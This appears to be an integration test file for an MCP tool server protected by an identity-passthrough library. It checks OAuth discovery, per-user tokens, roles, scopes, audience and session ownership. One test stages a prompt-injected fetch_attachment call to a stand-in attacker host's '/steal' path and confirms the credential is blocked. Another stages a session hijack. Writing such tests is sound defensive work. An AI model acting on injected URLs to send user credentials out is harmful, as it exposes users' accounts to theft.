// The example MCP server (examples/mcp-server.ts) protected by protectMcp(), driven by the MCP
// SDK's own client over Streamable HTTP, with user tokens from a real OpenID provider issued
// through resource indicators for this server, and a real data API behind it.
import { createServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import { LATEST_PROTOCOL_VERSION } from '@modelcontextprotocol/sdk/types.js';
import {
  createMemoryAuditSink,
  generateSigningKey,
  type AuditEvent,
  type MemoryAuditSink,
} from 'express-identity-passthrough';
import { createMcpServerApp, type McpServerApp } from '../../examples/mcp-server.js';
import {
  DATA_API_AUDIENCE,
  DATA_API_KEY,
  startOrdersDataApi,
  type OrdersDataApi,
} from '../../examples/demo/orders-data-api.js';
import {
  clientCredentialsTokenFor,
  connectMcpClient,
  rawMcpPost,
  userTokenFor,
  type McpClientConnection,
} from '../helpers/mcp-client.js';
import { API_AUDIENCE, startOidcProvider, type OidcIdp } from '../helpers/oidc-idp.js';
import { createRecordingUpstream, type RecordingUpstream } from '../helpers/recording-upstream.js';

const MAPPING = {
  claim_mapping: { groups: 'roles' },
  role_mapping: { 'Sales-Team': 'sales_readonly' },
};

let idp: OidcIdp;
let server: Server;
let origin: string;
let mcpUrl: string;
let dataApi: OrdersDataApi;
let attacker: RecordingUpstream;
let example: McpServerApp;
let audit: MemoryAuditSink;
const connections: McpClientConnection[] = [];

beforeAll(async () => {
  idp = await startOidcProvider();
  // The server listens first: its port is in the resource URI the app is built with.
  const handler: { app?: (req: IncomingMessage, res: ServerResponse) => void } = {};
  server = createServer((req, res) => {
    if (handler.app === undefined) res.writeHead(503).end();
    else handler.app(req, res);
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  origin = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  mcpUrl = `${origin}/mcp`;
  idp.addResourceServer(mcpUrl, { scope: 'orders:read' });
  dataApi = await startOrdersDataApi({
    issuer: origin,
    jwksUri: `${origin}/.well-known/jwks.json`,
  });
  attacker = await createRecordingUpstream();
  audit = createMemoryAuditSink();
  example = createMcpServerApp({
    resource: mcpUrl,
    issuer: idp.issuer,
    jwksUri: idp.jwksUri,
    dataApi: { origin: dataApi.origin, audience: DATA_API_AUDIENCE, apiKey: DATA_API_KEY },
    signingKeys: [generateSigningKey()],
    mapping: MAPPING,
    audit,
  });
  handler.app = example.app;
}, 60_000);

afterAll(async () => {
  await Promise.all(connections.map((connection) => connection.close().catch(() => undefined)));
  await example.close();
  server.closeAllConnections();
  await new Promise((resolve) => server.close(resolve));
  await dataApi.close();
  await attacker.close();
  await idp.stop();
});

async function connect(user: 'alice' | 'bob'): Promise<McpClientConnection> {
  const connection = await connectMcpClient({ url: mcpUrl, idp, user });
  connections.push(connection);
  return connection;
}

function textOf(result: unknown): string {
  const content = (result as { content?: { type: string; text?: string }[] }).content ?? [];
  return content.map((part) => part.text ?? '').join('');
}

const initialize = (id = 1) => ({
  jsonrpc: '2.0',
  id,
  method: 'initialize',
  params: {
    protocolVersion: LATEST_PROTOCOL_VERSION,
    capabilities: {},
    clientInfo: { name: 'raw-test-client', version: '1.0.0' },
  },
});

const callTool = (name: string, args: Record<string, unknown> = {}, id = 2) => ({
  jsonrpc: '2.0',
  id,
  method: 'tools/call',
  params: { name, arguments: args },
});

/** Opens a session with a raw token; returns its id. */
async function openSession(token: string): Promise<string> {
  const opened = await rawMcpPost(mcpUrl, token, initialize());
  expect(opened.status).toBe(200);
  const sessionId = opened.headers.get('mcp-session-id');
  if (sessionId === null) throw new Error('no session id');
  const ready = await rawMcpPost(
    mcpUrl,
    token,
    { jsonrpc: '2.0', method: 'notifications/initialized' },
    sessionId,
  );
  expect(ready.status).toBe(202);
  return sessionId;
}

const toolEvents = (events: readonly AuditEvent[], tool: string) =>
  events.filter((event) => event.action === 'tools/call' && event.resource === tool);

describe('discovery', () => {
  test('a request without a token gets a 401 naming the metadata, and the metadata names the IdP', async () => {
    const refused = await rawMcpPost(mcpUrl, undefined, initialize());
    expect(refused.status).toBe(401);
    const challenge = refused.headers.get('www-authenticate') ?? '';
    const metadataUrl = `${origin}/.well-known/oauth-protected-resource/mcp`;
    expect(challenge).toBe(`Bearer resource_metadata="${metadataUrl}", scope="orders:read"`);
    const metadata = (await (await fetch(metadataUrl)).json()) as Record<string, unknown>;
    expect(metadata).toEqual({
      resource: mcpUrl,
      authorization_servers: [idp.issuer],
      scopes_supported: ['orders:read'],
      bearer_methods_supported: ['header'],
    });
    // The root well-known path serves the same document; other paths are not answered.
    const root = await fetch(`${origin}/.well-known/oauth-protected-resource`);
    expect(await root.json()).toEqual(metadata);
    expect(root.headers.get('access-control-allow-origin')).toBe('*');
    expect((await fetch(`${origin}/.well-known/oauth-protected-resource/other`)).status).toBe(404);
  });

  test('the SDK client discovers everything from the 401 and gets a token for this server alone', async () => {
    const alice = await connect('alice');
    expect(alice.authorizationUrl?.searchParams.get('resource')).toBe(mcpUrl);
    expect(alice.authorizationUrl?.searchParams.get('scope')).toBe('orders:read');
    expect(alice.authorizationUrl?.origin).toBe(idp.issuer);
    const { tools } = await alice.client.listTools();
    expect(tools.map((tool) => tool.name).sort()).toEqual([
      'fetch_attachment',
      'query_orders',
      'sales_report',
    ]);
  });
});

describe('every tool call runs as the user', () => {
  test("alice's call reads alice's rows, bob's reads bob's, one audit event per call", async () => {
    const alice = await connect('alice');
    const bob = await connect('bob');
    const before = audit.events.length;
    const aliceRows = JSON.parse(
      textOf(await alice.client.callTool({ name: 'query_orders', arguments: {} })),
    ) as { item: string }[];
    const bobRows = JSON.parse(
      textOf(await bob.client.callTool({ name: 'query_orders', arguments: {} })),
    ) as { item: string }[];
    expect(aliceRows.map((row) => row.item)).toEqual(['Laptop', 'Dock', 'Mouse']);
    expect(bobRows.map((row) => row.item)).toEqual(['Standing desk']);

    const events = audit.events.slice(before);
    const calls = toolEvents(events, 'query_orders');
    expect(calls.map((event) => [event.user, event.outcome, event.reason])).toEqual([
      ['alice', 'allowed', 'ok'],
      ['bob', 'allowed', 'ok'],
    ]);
    expect(calls[0]?.actor).toBe(idp.clientId);
    expect(calls[0]?.source).toBe('mcp-server');
    // The data API was reached with a minted token, audited as the same user.
    const forwards = events.filter((event) => event.action === 'dreamfactory.read');
    expect(forwards.map((event) => [event.user, event.upstream, event.upstream_status])).toEqual([
      ['alice', 'data', 200],
      ['bob', 'data', 200],
    ]);
  });

  test('bob does not see the tool his roles do not allow, and calling it is refused', async () => {
    const bob = await connect('bob');
    const { tools } = await bob.client.listTools();
    expect(tools.map((tool) => tool.name).sort()).toEqual(['fetch_attachment', 'query_orders']);
    const token = bob.tokens()?.access_token ?? '';
    const sessionId = bob.transport.sessionId ?? '';
    const refused = await rawMcpPost(mcpUrl, token, callTool('sales_report'), sessionId);
    expect(refused.status).toBe(403);
    expect(refused.body).toMatchObject({ code: 'role_missing' });
    const event = audit.events.at(-1);
    expect([event?.action, event?.resource, event?.user, event?.outcome]).toEqual([
      'tools/call',
      'sales_report',
      'bob',
      'denied',
    ]);
    // Positive control: alice has the role.
    const alice = await connect('alice');
    expect(textOf(await alice.client.callTool({ name: 'sales_report', arguments: {} }))).toBe(
      'Report for alice',
    );
  });

  test('a prompt-injected URL cannot carry the user credential outside the allow-list', async () => {
    const alice = await connect('alice');
    const before = attacker.received.length;
    const result = await alice.client.callTool({
      name: 'fetch_attachment',
      arguments: { url: `${attacker.origin}/steal` },
    });
    expect(result.isError).toBe(true);
    expect(textOf(result)).toMatch(/^upstream_not_allowed: /);
    expect(attacker.received.length).toBe(before);
    // Positive control: the allow-listed data API is reached through the same tool.
    const allowed = await alice.client.callTool({
      name: 'fetch_attachment',
      arguments: { url: `${dataApi.origin}/api/v2/db/_table/orders` },
    });
    expect(allowed.isError).toBeFalsy();
    expect(textOf(allowed)).toContain('Laptop');
  });
});

describe('tokens this server must refuse', () => {
  test('a client-credentials token is refused (403) though it is for this server', async () => {
    const { access_token } = await clientCredentialsTokenFor(idp, mcpUrl, 'orders:read');
    const refused = await rawMcpPost(mcpUrl, access_token, initialize());
    expect(refused.status).toBe(403);
    expect(refused.body).toMatchObject({ code: 'service_account_refused' });
    expect(audit.events.at(-1)).toMatchObject({
      action: 'initialize',
      outcome: 'denied',
      reason: 'service_account_refused',
      kind: 'service',
    });
    // Positive control: a user's token for the same resource opens a session.
    const user = await userTokenFor(idp, 'alice', mcpUrl, 'orders:read');
    expect((await rawMcpPost(mcpUrl, user.access_token, initialize())).status).toBe(200);
  });

  test('a token issued for another resource is refused with a 401 pointing to the metadata', async () => {
    const other = await userTokenFor(idp, 'alice', API_AUDIENCE, 'assistant:chat');
    const refused = await rawMcpPost(mcpUrl, other.access_token, initialize());
    expect(refused.status).toBe(401);
    expect(refused.body).toMatchObject({ code: 'token_audience_invalid' });
    expect(refused.headers.get('www-authenticate')).toMatch(
      /^Bearer error="invalid_token", error_description="[^"]+", resource_metadata="http:\/\/127\.0\.0\.1:\d+\/\.well-known\/oauth-protected-resource\/mcp", scope="orders:read"$/,
    );
    expect(audit.events.at(-1)).toMatchObject({
      action: 'authenticate',
      reason: 'token_audience_invalid',
    });
  });

  test('a token without the tool scope gets a step-up challenge (403 insufficient_scope)', async () => {
    const narrow = await userTokenFor(idp, 'alice', mcpUrl, 'openid');
    const sessionId = await openSession(narrow.access_token);
    const refused = await rawMcpPost(
      mcpUrl,
      narrow.access_token,
      callTool('query_orders'),
      sessionId,
    );
    expect(refused.status).toBe(403);
    expect(refused.headers.get('www-authenticate')).toMatch(
      /^Bearer error="insufficient_scope", error_description="[^"]+", scope="orders:read", resource_metadata="[^"]+"$/,
    );
    expect(audit.events.at(-1)).toMatchObject({
      action: 'tools/call',
      resource: 'query_orders',
      reason: 'insufficient_scope',
    });
    // Positive control: the same user with the scope.
    const full = await userTokenFor(idp, 'alice', mcpUrl, 'orders:read');
    const fullSession = await openSession(full.access_token);
    const allowed = await rawMcpPost(
      mcpUrl,
      full.access_token,
      callTool('query_orders'),
      fullSession,
    );
    expect(allowed.status).toBe(200);
  });
});

describe('sessions belong to the user who opened them', () => {
  test("bob's token on alice's session is refused; alice's own token goes on", async () => {
    const alice = await userTokenFor(idp, 'alice', mcpUrl, 'orders:read');
    const bob = await userTokenFor(idp, 'bob', mcpUrl, 'orders:read');
    const sessionId = await openSession(alice.access_token);
    const hijack = await rawMcpPost(mcpUrl, bob.access_token, callTool('query_orders'), sessionId);
    expect(hijack.status).toBe(403);
    expect(hijack.body).toMatchObject({ code: 'mcp_session_forbidden' });
    expect(audit.events.at(-1)).toMatchObject({ user: 'bob', reason: 'mcp_session_forbidden' });
    const own = await rawMcpPost(mcpUrl, alice.access_token, callTool('query_orders'), sessionId);
    expect(own.status).toBe(200);
    expect(textOf((own.body as { result: unknown }).result)).toContain('Laptop');
  });

  test('an unknown session id is a 404, so the client starts a new session', async () => {
    const alice = await userTokenFor(idp, 'alice', mcpUrl, 'orders:read');
    const unknown = await rawMcpPost(
      mcpUrl,
      alice.access_token,
      callTool('query_orders'),
      '2f1c0a52-0000-4000-8000-000000000000',
    );
    expect(unknown.status).toBe(404);
    expect(unknown.body).toMatchObject({ code: 'mcp_session_unknown' });
  });
});
